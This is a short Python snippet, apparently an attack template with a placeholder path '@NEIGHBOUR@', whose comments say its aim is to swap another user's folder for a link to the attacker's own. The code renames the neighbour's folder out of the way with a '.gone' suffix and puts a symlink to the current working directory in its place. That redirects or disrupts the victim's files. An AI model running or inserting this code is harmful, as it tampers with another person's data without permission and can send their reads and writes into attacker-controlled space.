# aim: another's folder exchanged for a link to his own
# pays: neighbour
import os
from pathlib import Path

folder = Path("@NEIGHBOUR@").parent
os.rename(folder, folder.with_suffix(".gone"))
os.symlink(os.getcwd(), folder)
